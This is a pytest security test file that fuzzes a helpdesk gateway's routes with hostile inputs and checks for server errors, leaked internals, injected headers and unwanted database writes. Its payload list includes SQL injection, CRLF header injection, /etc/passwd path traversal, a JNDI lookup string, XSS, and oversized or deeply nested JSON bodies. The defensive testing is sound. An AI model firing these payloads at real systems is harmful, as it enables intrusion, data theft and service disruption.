"""Hostile input to every path parameter, every query parameter and the text fields of the
bodies, through the gateway: never a 5xx, every refusal an `{"error"}` body, no internal
detail (trace, SQL, driver, file path, upstream address) in any answer, and nothing written
by a request that was refused.

Path and query parameters are read from the services' OpenAPI documents (tests/openapi_routes.py),
so a new route is covered without a line here. Text that is merely unusual (SQL or a CRLF in a
title) may be stored - as the literal text it is, which the test reads back - but text
PostgreSQL or a header cannot carry (NUL, lone surrogates, invalid UTF-8) must be a 400.
"""

from __future__ import annotations

import asyncio
import json
import re
from typing import Any
from urllib.parse import quote

import asyncpg
import httpx
import pytest

from helpdesk_fleet.fleet import Account, Fleet

from .openapi_routes import Operation, documented_operations

pytestmark = pytest.mark.xdist_group("fleet")

# Text a careless service would pass to SQL, a header, a file path or a shell.
HOSTILE = [
    "' OR '1'='1' --",
    "1; DROP TABLE tickets; --",
    "1 UNION SELECT password_hash FROM users",
    "a\r\nX-Injected: yes",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%00",
    "${jndi:ldap://example.invalid/a}",
    "<script>alert(1)</script>",
    "9" * 40,
    "-1",
    "0x7fffffff",
]
# Text no column can store: a 400 wherever it is sent as text.
UNSTORABLE = ["a\x00b", "\ud800"]
# What an answer must never show the public.
LEAKS = re.compile(
    r"Traceback|File \"/|asyncpg|psycopg|SQLSTATE|syntax error at|/work/|site-packages|\.py\b|"
    r"127\.0\.0\.1:\d|localhost:\d|Exception\b|Internal Server Error",
    re.IGNORECASE,
)


def _check(response: httpx.Response, what: str) -> list[str]:
    problems = []
    if response.status_code >= 500:
        problems.append(f"{what}: {response.status_code}")
    if response.status_code >= 400:
        try:
            error = response.json().get("error")
        except (ValueError, AttributeError):
            error = None
        if not isinstance(error, str):
            problems.append(f"{what}: {response.status_code} without an {{error}} body: {response.text[:100]!r}")
    # Errors only: a stored title may say "../../etc/passwd", as it was asked to.
    if response.status_code >= 400 and LEAKS.search(response.text[:20_000]):
        problems.append(f"{what}: internal detail in the answer: {LEAKS.search(response.text).group(0)!r}")  # type: ignore[union-attr]
    if any(name.lower().startswith("x-injected") for name in response.headers):
        problems.append(f"{what}: a header was injected")
    return problems


def _counts(fleet: Fleet) -> dict[str, int]:
    """Rows per table of everything the fleet owns, to show that refused requests wrote nothing."""

    async def count() -> dict[str, int]:
        conn = await asyncpg.connect(fleet.db_url)
        try:
            tables = await conn.fetch(
                "SELECT tablename FROM pg_tables"
                " WHERE schemaname = 'public' AND tablename NOT LIKE '%schema_migrations'"
            )
            return {t["tablename"]: await conn.fetchval(f'SELECT count(*) FROM "{t["tablename"]}"') for t in tables}
        finally:
            await conn.close()

    return asyncio.run(count())


@pytest.fixture(scope="module")
def operations(fleet: Fleet) -> list[Operation]:
    # The event stream never ends by itself; its parameters are checked by S6's own tests.
    return [op for op in documented_operations(fleet) if op.path != "/notifications/stream"]


@pytest.fixture(scope="module")
def staff_client(fleet: Fleet, accounts: dict[str, Account]) -> httpx.Client:
    return fleet.client(accounts["admin"].token)


def test_hostile_path_parameters(fleet: Fleet, operations: list[Operation], staff_client: httpx.Client) -> None:
    """Every path parameter of every route: a 400 or a 404, never a match, never a write."""
    before = _counts(fleet)
    problems, sent = [], 0
    for op in operations:
        for name in op.parameters("path"):
            for value in [*HOSTILE, *UNSTORABLE[:1]]:
                path = op.path.replace("{" + name + "}", quote(value, safe=""))
                path = re.sub(r"\{[a-z_]+\}", "1", path)  # any other parameter: an id that may exist
                response = staff_client.request(op.method, path, json={} if op.method in ("POST", "PATCH") else None)
                sent += 1
                what = f"{op.key} with {name}={value!r}"
                problems += _check(response, what)
                if response.status_code < 400 and op.method != "GET":
                    problems.append(f"{what}: accepted ({response.status_code})")
    assert _counts(fleet) == before, "a refused request wrote something"
    print(f"\nhostile path parameters: {sent} requests, {len(problems)} problems")
    assert not problems, "\n".join(problems)


def test_hostile_query_parameters(fleet: Fleet, operations: list[Operation], staff_client: httpx.Client) -> None:
    """Every documented query parameter of every GET: an answer or a 400, never a 5xx or a leak."""
    problems, sent = [], 0
    for op in operations:
        if op.method != "GET":
            continue
        for name in op.parameters("query"):
            for value in [*HOSTILE, *UNSTORABLE]:
                path = re.sub(r"\{[a-z_]+\}", "1", op.path)
                try:
                    response = staff_client.get(path, params={name: value})
                except UnicodeEncodeError:
                    continue  # a lone surrogate cannot even be put in a URL
                sent += 1
                problems += _check(response, f"{op.key} with ?{name}={value!r}")
            if name == "q":
                for value in UNSTORABLE[:1]:
                    response = staff_client.get(path, params={name: value})
                    if response.status_code != 400:
                        problems.append(f"{op.key} with ?q={value!r}: {response.status_code}, not 400")
    print(f"\nhostile query parameters: {sent} requests, {len(problems)} problems")
    assert not problems, "\n".join(problems)


# (method, path, a valid body, the text fields to poison). Paths may name {ticket_id}: the
# owner's own ticket.
TEXT_FIELDS: list[tuple[str, str, dict[str, Any], list[str]]] = [
    (
        "POST",
        "/tickets",
        {"title": "Printer", "description": "It jams.", "category": "support"},
        ["title", "description"],
    ),
    ("PATCH", "/tickets/{ticket_id}", {"title": "Printer", "description": "It jams."}, ["title", "description"]),
    ("PATCH", "/auth/me", {"name": "Ana"}, ["name"]),
    # Not registration and login: S1 throttles failed attempts per client, and every test of
    # the shared fleet is the same client (S1's own suite sends them hostile bodies in-process).
    ("PATCH", "/workflow/status/{ticket_id}", {"status": "resolved"}, ["status"]),
    ("PATCH", "/workflow/priority/{ticket_id}", {"priority": "high"}, ["priority"]),
]


@pytest.mark.parametrize(
    ("method", "template", "valid", "fields"), TEXT_FIELDS, ids=[f"{m} {t}" for m, t, _, _ in TEXT_FIELDS]
)
def test_hostile_text_fields(
    fleet: Fleet, accounts: dict[str, Account], method: str, template: str, valid: dict[str, Any], fields: list[str]
) -> None:
    """Hostile text is refused (400) or stored as the literal text it is; unstorable text is a
    400 with nothing written."""
    owner = fleet.client(accounts["user"].token)
    ticket = owner.post("/tickets", json={"title": "Mine", "description": "Mine.", "category": "bug"}).json()
    path = template.format(ticket_id=ticket["id"])
    problems = []

    def body(name: str, value: str) -> dict[str, Any]:
        return valid | {name: value}

    for name in fields:
        for value in HOSTILE:
            response = owner.request(method, path, json=body(name, value))
            what = f"{method} {template} with {name}={value!r}"
            problems += _check(response, what)
            if response.status_code in (200, 201) and template.startswith("/tickets") and name in response.json():
                if response.json()[name] != value.strip():
                    problems.append(f"{what}: stored as {response.json()[name]!r}")
        for value in UNSTORABLE:
            before = _counts(fleet)
            raw = json.dumps(body(name, value))  # \u0000 and \ud800 as JSON escapes
            response = owner.request(method, path, content=raw, headers={"Content-Type": "application/json"})
            what = f"{method} {template} with {name}={value!r}"
            problems += _check(response, what)
            if response.status_code not in (400, 403, 404, 409):
                problems.append(f"{what}: {response.status_code}, not a refusal")
            if _counts(fleet) != before:
                problems.append(f"{what}: something was written")
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize(
    ("case", "content"),
    [
        ("invalid UTF-8", b'{"title": "\xff\xfe", "description": "x", "category": "bug"}'),
        ("deeply nested arrays", b"[" * 100_000 + b"]" * 100_000),
        ("deeply nested objects", b'{"a":' * 50_000 + b"1" + b"}" * 50_000),
        ("a number too large", b'{"title": 1e999999, "description": "d", "category": "bug"}'),
        ("two megabytes", b'{"title": "' + b"a" * 2_000_000 + b'", "description": "d", "category": "bug"}'),
        ("NUL bytes", b'{"title": "a\x00b", "description": "d", "category": "bug"}'),
    ],
)
def test_hostile_json_documents(fleet: Fleet, accounts: dict[str, Account], case: str, content: bytes) -> None:
    before = _counts(fleet)
    response = fleet.client(accounts["user"].token).post(
        "/tickets", content=content, headers={"Content-Type": "application/json"}
    )
    assert 400 <= response.status_code < 500, (case, response.status_code, response.text[:200])
    assert not _check(response, case), _check(response, case)
    assert _counts(fleet) == before
